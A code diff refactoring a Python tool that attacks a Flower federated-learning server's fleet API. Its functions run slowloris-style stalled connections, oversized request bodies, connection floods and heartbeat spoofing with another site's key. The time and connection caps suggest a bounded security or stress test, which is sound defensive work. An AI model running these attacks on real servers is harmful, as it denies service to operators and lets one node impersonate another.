@@ -28,6 +28,10 @@ from flwr.supercore.protobuf.constants import PROTOBUF_MEDIA_TYPE
 MOST_SECONDS, MOST_CONNECTIONS = 120.0, 2000
 
 
+def end_after(seconds: float) -> float:
+    return time.monotonic() + min(float(seconds), MOST_SECONDS)
+
+
 def tls() -> ssl.SSLContext:
     """A TLS context that accepts any server."""
     context = ssl.create_default_context()
@@ -37,7 +41,7 @@ def tls() -> ssl.SSLContext:
 
 def slow(host: str, port: str, count: str, seconds: str, source: str = "") -> dict:
     """Half of the connections do not finish the TLS handshake, the others send a header byte by byte."""
-    number, until = min(int(count), MOST_CONNECTIONS), time.monotonic() + min(float(seconds), MOST_SECONDS)
+    number, until = min(int(count), MOST_CONNECTIONS), end_after(seconds)
     lines: list[socket.socket] = []
     opened = closed = 0
     while time.monotonic() < until:
@@ -47,9 +51,7 @@ def slow(host: str, port: str, count: str, seconds: str, source: str = "") -> di
                 if opened % 2:
                     line.settimeout(5)
                     line = tls().wrap_socket(line)
-                    line.sendall(b"POST /v1/fleet/pull-messages HTTP/1.1\r\nHost: x\r\nX-")
-                else:
-                    line.sendall(b"\x16")
+                line.sendall(b"POST /v1/fleet/pull-messages HTTP/1.1\r\nHost: x\r\nX-" if opened % 2 else b"\x16")
                 line.setblocking(False)
                 lines.append(line)
                 opened += 1
@@ -65,32 +67,27 @@ def slow(host: str, port: str, count: str, seconds: str, source: str = "") -> di
                 lines.remove(line)
                 closed += 1
         time.sleep(1.0)
-    for line in lines:
-        line.close()
     return {"opened": opened, "closed by the server": closed}
 
 
 def bodies(host: str, port: str, count: str, megabytes: str) -> dict:
     """Send the declared body as long as the server accepts it, for at most 30 s."""
-    size, answers, sent = int(float(megabytes) * (1 << 20)), Counter(), 0
+    size, answers, passed = int(float(megabytes) * (1 << 20)), Counter(), Counter()
     head = f"POST /v1/fleet/push-object HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n".encode()
-    lines = []
+    lines, chunk = [], b"x" * 65536
     for _ in range(min(int(count), 200)):
         try:
-            line = tls().wrap_socket(socket.create_connection((host, int(port)), timeout=10))
-            line.sendall(head)
-            lines.append(line)
+            lines.append(tls().wrap_socket(socket.create_connection((host, int(port)), timeout=10)))
+            lines[-1].sendall(head)
         except OSError:
             answers["no connection"] += 1
-    until, chunk = time.monotonic() + 30, b"x" * 65536
-    open_, passed = list(lines), Counter()
+    until, open_ = end_after(30), list(lines)
     while open_ and time.monotonic() < until:
         for line in list(open_):
             try:
                 line.settimeout(0.2)
                 line.sendall(chunk)
                 passed[line] += len(chunk)
-                sent += len(chunk)
                 if passed[line] >= size:
                     open_.remove(line)
             except TimeoutError:
@@ -98,18 +95,14 @@ def bodies(host: str, port: str, count: str, megabytes: str) -> dict:
             except OSError:
                 answers["closed"] += 1
                 open_.remove(line)
-    for line in lines:
-        line.close()
-    return {"megabytes taken": round(sent / (1 << 20), 1), **answers}
+    return {"megabytes taken": round(passed.total() / (1 << 20), 1), **answers}
 
 
 def flood(host: str, port: str, count: str) -> dict:
     """Send one request after the other, each in a new connection, for at most MOST_SECONDS."""
-    answers: Counter = Counter()
-    until = time.monotonic() + MOST_SECONDS
-    for _ in range(min(int(count), 3000)):
-        if time.monotonic() > until:
-            break
+    answers, until, left = Counter(), end_after(MOST_SECONDS), min(int(count), 3000)
+    while left and time.monotonic() < until:
+        left -= 1
         try:
             connection = http.client.HTTPSConnection(host, int(port), context=tls(), timeout=10)
             connection.request("POST", "/v1/fleet/pull-messages", body=b"")
@@ -150,7 +143,7 @@ def steal(host: str, port: str, key: str, node: str, seconds: str) -> dict:
     """Send heartbeats with the key of a site that is online, from another address."""
     from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest
 
-    site, answers, until = Site(host, port, key), Counter(), time.monotonic() + min(float(seconds), MOST_SECONDS)
+    site, answers, until = Site(host, port, key), Counter(), end_after(seconds)
     request = SendNodeHeartbeatRequest(heartbeat_interval=30)
     request.node.node_id = int(node)
     while time.monotonic() < until:
